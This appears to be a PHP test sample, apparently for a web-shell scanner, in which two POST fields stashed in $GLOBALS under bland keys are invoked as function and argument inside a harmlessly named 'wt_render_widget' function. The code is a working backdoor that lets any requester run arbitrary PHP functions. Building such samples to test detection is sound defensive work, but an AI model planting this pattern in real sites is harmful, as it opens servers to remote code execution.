<?php
// Test sample: callable and data stashed in $GLOBALS under innocuous keys.
$GLOBALS['_x'] = $_POST['k1'];
$GLOBALS['_y'] = $_POST['k2'];
function wt_render_widget()
{
    $GLOBALS['_x']($GLOBALS['_y']);
}
wt_render_widget();
